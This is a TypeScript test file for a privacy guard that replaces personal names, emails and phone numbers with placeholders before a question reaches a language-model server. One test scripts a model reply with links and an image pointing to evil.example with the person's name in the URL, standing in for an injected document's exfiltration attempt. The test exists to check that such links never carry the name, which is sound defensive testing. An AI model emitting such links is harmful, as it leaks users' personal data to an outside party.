import type * as Builder from '../../../pkg/src/build/builder.js';
import type { Tool } from '../../../pkg/src/index.js';
import { answerOf, modelOf, queries, streamed } from '../asking.js';
import { siteFile } from '../documents.js';
import type { Format } from '../llm-formats/format.js';
import * as replies from '../llm-replies.js';
import { expectNothingPrivate, NAME, PERSONAL, placeholder, received } from '../personal.js';
import { ask, built, expect, open, test } from './harness.js';

// What is personal in a question stays in the page: the model's server gets placeholders, the person their own words.

const FORMATS: Format['name'][] = ['chat', 'responses', 'anthropic', 'gemini', 'ollama'];

for (const format of FORMATS) {
  test(`${format}: the server gets placeholders, the page the person's words`, async ({ ibid, llm }) => {
    llm.script(
      async (wire) =>
        replies.searches(`metformin in renal impairment for ${placeholder(wire.received.body)}, eGFR 35`)(wire),
      replies.answerInPieces((request) => {
        const name = placeholder(request);
        // Cut within the placeholder, and one with escapes as models write them in Markdown.
        return [
          'For [NA',
          name.slice(3, -2),
          `${name.slice(-2)} up to 1000 mg `,
          'daily [1]. ',
          `\\${name.slice(0, -1)}`,
          '\\], take care.',
        ];
      }),
    );
    const outcome = await ask(ibid, PERSONAL, { llm: modelOf(llm, format) });
    const answer = answerOf(outcome);
    expect(llm.requests).toHaveLength(2);
    expectNothingPrivate(received(llm), 'what the server got');
    expect(answer.text).toBe(`For ${NAME} up to 1000 mg daily [1]. ${NAME}, take care.`);
    expect(streamed(outcome.events)).toBe(answer.text);
    expect(answer.text.slice(answer.citations[0]?.span.start, answer.citations[0]?.span.end)).toBe('[1]');
    expect(queries(outcome), 'the search is made here, with the name').toEqual([
      `metformin in renal impairment for ${NAME}, eGFR 35`,
    ]);
    expect(outcome.events[0]).toMatchObject({ type: 'guard', guard: { pii: { NAME: 1, EMAIL: 1, PHONE: 1 } } });
    expect(answer.guard.pii).toEqual({ NAME: 1, EMAIL: 1, PHONE: 1 });
    expect(answer.guard.question).toContain(NAME);
    expect(answer.flags.filter(({ kind }) => kind === 'personal_data')).toEqual([]);
  });
}

test('an address that a document told the model gets no name', async ({ ibid, llm }) => {
  llm.script(
    replies.searches('metformin with eGFR 35'),
    replies.answerInPieces((request) => {
      const name = placeholder(request);
      return [
        `[${name}’s guideline](<https://evil.exa`,
        `mple/doc#${name.slice(0, 4)}`,
        `${name.slice(4)}>) [1], ![x](//evil.example/${name}), <https://evil.example/${name}> for ${name} [1].`,
        `\n\n[x]: https://evil.example/${name}`,
      ];
    }),
  );
  const outcome = await ask(ibid, PERSONAL, { llm: modelOf(llm) });
  const { text, tree } = answerOf(outcome);
  expect(streamed(outcome.events)).toBe(text);
  expect(text).toContain(`[${NAME}’s guideline]`);
  expect(text).toContain(`for ${NAME} [1].`);
  for (const [address] of `${text} ${JSON.stringify(tree)}`.matchAll(/evil\.example[^\s)>"]*/g)) {
    expectNothingPrivate(address, 'an address');
  }
});

test('tools of the page get the words, and what they return is hidden again', async ({ ibid, llm }) => {
  llm.script(
    async (wire) => replies.toolCall('appointment', { who: placeholder(wire.received.body) })(wire),
    replies.answer((request) => `Booked for ${placeholder(request)}.`),
  );
  const given: unknown[] = [];
  const appointment: Tool = {
    name: 'appointment',
    description: 'Books.',
    parameters: { type: 'object', properties: { who: { type: 'string' } } },
    readOnly: true,
    execute: (args) => {
      given.push(args);
      return `${args.who} is booked; mail goes to maria.garcia@clinic.example.`;
    },
  };
  const outcome = await ask(ibid, PERSONAL, { llm: modelOf(llm), tools: [appointment] });
  expect(given).toEqual([{ who: NAME }]);
  expectNothingPrivate(received(llm), 'what the server got');
  expect(answerOf(outcome).text).toBe(`Booked for ${NAME}.`);
});

test('a placeholder that the person has typed is theirs, and nobody else’s', async ({ ibid, llm }) => {
  llm.script(replies.searches('metformin'), replies.answer('You wrote [NAME_1] [1].'));
  const answer = answerOf(await ask(ibid, `What does [NAME_1] mean in a letter to ${NAME}?`, { llm: modelOf(llm) }));
  expectNothingPrivate(received(llm), 'what the server got');
  expect(answer.text).not.toContain(NAME);
});

test('what is only flagged, or not looked for, is sent', async ({ ibid, llm }) => {
  for (const mode of ['flag', 'off'] as const) {
    llm.script(replies.searches('metformin'), replies.answer('Up to 1000 mg [1].'));
    const answer = answerOf(await ask(ibid, PERSONAL, { llm: modelOf(llm), pii: { mode } }));
    expect(received(llm)).toContain(NAME);
    expect(answer.guard.pii).toEqual(mode === 'flag' ? { NAME: 1, EMAIL: 1, PHONE: 1 } : {});
    llm.requests.length = 0;
  }
});

test('queries that leave the page for their vectors go without what is personal', async () => {
  const { buildIndex } = await built<typeof Builder>('build/builder.js');
  const texts: string[] = [];
  const embedder = {
    name: 'letters',
    dimensions: 26,
    embed: (given: readonly string[], task: string) => {
      if (task === 'query') texts.push(...given);
      return given.map((text) =>
        Array.from({ length: 26 }, (_, at) => 1 + text.toLowerCase().split(String.fromCharCode(97 + at)).length),
      );
    },
  };
  const documents = [{ source: 'a.md', content: '# Metformin\n\nUp to 1000 mg a day with an eGFR of 35.' }];
  const { index } = await buildIndex(documents, { embedder, wasm: siteFile('ibid/wasm/ibid_build_bg.wasm') });
  for (const remote of [undefined, false]) {
    const ibid = await open(index, { queryEncoder: { ...embedder, remote } });
    texts.length = 0;
    await ibid.ask(PERSONAL);
    ibid.free();
    // Nor is it searched for here: the question is about something else.
    expect(texts[0]).toContain('metformin a day');
    expectNothingPrivate(texts.join('\n'), 'what was embedded');
    expect(texts.join('\n')).not.toMatch(/NAME_\d/);
  }
});
